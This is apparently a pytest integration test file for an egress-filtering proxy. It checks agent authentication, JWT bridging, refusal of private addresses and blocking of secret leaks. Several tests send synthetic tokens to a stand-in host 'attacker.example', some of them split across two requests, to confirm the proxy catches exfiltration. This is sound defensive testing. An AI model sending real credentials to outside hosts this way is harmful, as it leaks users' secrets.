"""`egressguard proxy` with real clients: what it judges, whom it lets in, what it says."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from interceptor.scan.ruleset import example
from interceptor.serve.proxy_agents import new_token
from tests.lab import Lab
from tests.lab.programs import JAIL_ENVIRONMENT
from tests.lab.world import ATTACKER, HOST_V4
from tests.pure.serve.test_proxy_agents import ISSUER, claims, jwks, jwt
from tests.split_traffic import cut

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

HOME = "/home/dev/proxy-test"
COMMAND = [sys.executable, "-m", "interceptor.cli.main", "proxy"]
PORT = 8899


class Running:
    """A proxy in the lab, as an ordinary user."""

    def __init__(self, lab: Lab, program: subprocess.Popen[bytes], folder: str) -> None:
        self.lab = lab
        self.program = program
        self.folder = folder

    def curl(
        self, *words: str, proxy: str = f"http://127.0.0.1:{PORT}", user: str = ""
    ) -> tuple[int, str]:
        """Status and content."""
        told = [*("-x", proxy), *(["-U", user] if user else [])]
        trust = ["--cacert", f"{self.folder}/ca/ca.crt"]
        argv = ["curl", "-sS", "--max-time", "20", "-w", "\n%{http_code} %{http_connect}"]
        done = self.lab.run([*argv, *told, *trust, *words], user="dev")
        content, _, codes = done.stdout.decode().rpartition("\n")
        status, tunnel = (int(code) for code in codes.split())
        return status or tunnel, content + done.stderr.decode()

    def end(self) -> tuple[str, list[dict[str, Any]]]:
        """What it said on standard error, and its evidence."""
        self.program.send_signal(signal.SIGTERM)
        _, errors = self.program.communicate(timeout=30)
        assert self.program.returncode == 0, errors
        return errors.decode(), self.lab.evidence(f"{self.folder}/evidence.jsonl")


@contextlib.contextmanager
def proxy(lab: Lab, *options: str, files: dict[str, bytes] | None = None) -> Iterator[Running]:
    folder = f"{HOME}-{time.monotonic_ns()}"
    inside = lab.path(folder)
    inside.mkdir()
    for name, data in (files or {}).items():
        (inside / name).write_bytes(data)
    _give(inside)
    words = [*COMMAND, "--evidence", f"{folder}/evidence.jsonl", "--ca-dir", f"{folder}/ca"]
    words += [option.replace("FOLDER", folder) for option in options]
    if "--listen" not in options:
        words += ["--listen", f"127.0.0.1:{PORT}"]
    with lab.popen(words, user="dev", env=JAIL_ENVIRONMENT, cwd="/home/dev") as program:
        try:
            _wait(lab, program)
            yield Running(lab, program, folder)
        finally:
            program.kill()


def _give(folder: Path) -> None:
    for path in (folder, *folder.iterdir()):
        os.chown(path, 4242, 4242)


def _wait(lab: Lab, program: subprocess.Popen[bytes], port: int = PORT) -> None:
    end = time.monotonic() + 60
    while time.monotonic() < end and program.poll() is None:
        probe = ["curl", "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/"]
        if lab.run(probe, user="dev").returncode == 0:
            return
        time.sleep(0.1)
    raise AssertionError("the proxy does not listen")


def test_an_agent_that_uses_it_is_judged_as_in_a_jail(clean_lab: Lab) -> None:
    secret = example(["gh", "p_", "{alnum:30}", "{crc32:6}"], "proxy").decode()
    lab = clean_lab
    with proxy(lab) as running:
        status, content = running.curl("https://example.com/get")
        assert (status, bool(content)) == (200, True), content
        assert running.curl("http://example.com/get")[0] == 200
        assert (
            running.curl("https://example.com/get", proxy=f"socks5h://127.0.0.1:{PORT}")[0] == 200
        )
        status, content = running.curl(f"http://127.0.0.1:{PORT}/", "--noproxy", "*")
        assert (status, json.loads(content)["reason"]) == (403, "no_name")
        status, content = running.curl("https://lan.inward.example/")
        assert (status, json.loads(content)["reason"]) == (403, "address_private")
        status, content = running.curl(f"http://{HOST_V4}:22/")
        assert (status, json.loads(content)["reason"]) == (403, "address_private")
        for url in ("https://attacker.example/up", "http://attacker.example/up"):
            status, content = running.curl(url, "-d", f"text={secret}")
            assert (status, json.loads(content)["reason"]) == (403, "secret")
        errors, events = running.end()
    started = events[0]
    assert (started["event"], started["guarantee"]) == ("started", "cooperative")
    assert events[-1]["event"] == "stopped"
    assert all("agent" not in event for event in events)
    assert errors.count("Weaker guarantee") == 2  # at the start and in the closing table
    assert secret not in json.dumps(events)
    assert lab.oracle.records() == []
    assert lab.requests("attacker.example") == []
    # the control: an agent that does not use it is not held, which is what is said
    around = lab.run(["curl", "-sS", "--max-time", "5", f"http://{ATTACKER[0]}/"], user="dev")
    assert around.returncode == 0, around.stderr


def test_each_agent_proves_who_it_is_and_has_a_state_of_its_own(clean_lab: Lab) -> None:
    lab = clean_lab
    one, line = new_token("one")
    two, other = new_token("two")
    files = {"agents": f"{line}\n{other}\n".encode()}
    url = "https://example.com/get"
    options = ("--agents", "FOLDER/agents", "--listen", f"0.0.0.0:{PORT}")
    with proxy(lab, *options, files=files) as running:
        for user in ("", f"one:{two}", f"nobody:{one}", "one:"):
            assert running.curl(url, user=user)[0] == 407
            assert running.curl("http://example.com/get", user=user)[0] == 407
        socks = f"socks5h://127.0.0.1:{PORT}"
        assert running.curl("http://example.com/get", proxy=socks)[0] == 0
        assert running.curl("http://example.com/get", proxy=socks, user=f"one:{two}")[0] == 0
        assert lab.requests() == []
        assert running.curl(url, user=f"one:{one}")[0] == 200
        assert running.curl(url, user=f"two:{two}", proxy=socks)[0] == 200
        two_at_once = ("http://example.com/get?a", "http://example.com/get?b", "-o", "/dev/null")
        assert running.curl(*two_at_once, user=f"two:{two}")[0] == 200
        bearer = ("--proxy-header", f"Proxy-Authorization: Bearer {two}")
        assert running.curl(url, *bearer)[0] == 200
        sent = len(lab.requests())
        pieces = cut(example(["gh", "p_", "{alnum:30}", "{crc32:6}"], "two agents"), 2)
        first, second = (f"http://attacker.example/log?d={piece.decode()}" for piece in pieces)
        assert running.curl(first, user=f"one:{one}")[0] == 404
        assert running.curl(second, user=f"two:{two}")[0] == 404  # which has sent no first piece
        assert running.curl(second, user=f"one:{one}")[0] == 403
        _, events = running.end()
    seen = lab.requests()
    assert (sent, len(seen)) == (5, 7)
    for request in seen:
        assert not request.field("proxy-authorization")
    allowed = [e for e in events if e["event"] == "decision" and e["action"] == "allow"]
    assert sorted(e["agent"] for e in allowed) == ["one", "one", *["two"] * 5]
    finished = [e for e in events if e["event"] == "finished"]
    assert sorted(e["agent"] for e in finished) == ["one", "one", *["two"] * 5]
    turned = [e for e in events if e.get("reason") == "proxy_unauthorized"]
    assert len(turned) >= 10
    assert all("agent" not in event for event in turned)
    text = json.dumps(events)
    assert one not in text
    assert two not in text
    flows = [event["flow"] for event in allowed]
    assert len(set(flows)) >= 4  # of all agents, as they share the file


def test_a_pod_reaches_it_by_a_bridge_that_has_the_token(clean_lab: Lab) -> None:
    lab = clean_lab
    token = jwt(claims(exp=time.time() + 600, nbf=0))
    files = {
        "agents": b"worker serviceaccount:work/builder\n",
        "jwks": jwks(),
        "token": token + b"\n",
    }
    options: tuple[str, ...] = ("--agents", "FOLDER/agents")
    options += ("--service-account-keys", "FOLDER/jwks")
    options += ("--issuer", ISSUER)
    with proxy(lab, *options, files=files) as running:
        bridge = [*COMMAND, "bridge", "--listen", "127.0.0.1:8898", "--to", f"127.0.0.1:{PORT}"]
        bridge += ["--token-file", f"{running.folder}/token"]
        led = "http://127.0.0.1:8898"
        with lab.popen(bridge, user="dev", env=JAIL_ENVIRONMENT) as program:
            _wait(lab, program, 8898)
            assert running.curl("https://example.com/get", proxy=led)[0] == 200
            assert running.curl("http://example.com/get", proxy=led)[0] == 200
            assert running.curl("https://lan.inward.example/", proxy=led)[0] == 403
            lab.path(f"{running.folder}/token").write_bytes(jwt(claims(exp=1)))
            assert running.curl("http://example.com/get", proxy=led)[0] == 503
            program.send_signal(signal.SIGTERM)
            program.wait(20)
        _, events = running.end()
    allowed = [e for e in events if e["event"] == "decision" and e["action"] == "allow"]
    assert [e["agent"] for e in allowed if e["host"] == "example.com"] == ["worker/builder-7"] * 2
    assert token.decode() not in json.dumps(events)
    assert len(lab.requests()) == 2


def test_what_is_refused_at_the_start(clean_lab: Lab) -> None:
    for words, said in (
        (["--listen", f"0.0.0.0:{PORT}"], "agents must prove who they are"),
        (["--listen", "localhost:1"], "expected ADDRESS:PORT"),
        (["--agents", "/nowhere"], "/nowhere: No such file"),
        (["--service-account-keys", "/nowhere"], "go with --agents"),
        (["--name", "A B"], "--name A B"),
    ):
        done = clean_lab.run([*COMMAND, *words], user="dev", env=JAIL_ENVIRONMENT)
        assert done.returncode == 2, done.stderr
        assert said in done.stderr.decode()


def test_without_its_process_nobody_is_served(clean_lab: Lab) -> None:
    lab = clean_lab
    with proxy(lab) as running:
        os.kill(max(_serving(lab)), signal.SIGKILL)  # the worker was forked last
        assert running.program.wait(30) == 125
        assert running.curl("http://example.com/get")[0] == 0
    assert lab.requests() == []


def _serving(lab: Lab) -> list[int]:
    """Pids of the proxy: the supervisor and its worker."""
    found = []
    for process in lab.processes():
        words = Path(f"/proc/{process.pid}/cmdline").read_bytes().split(b"\0")
        if b"interceptor.cli.main" in words and b"proxy" in words:
            found.append(process.pid)
    return found
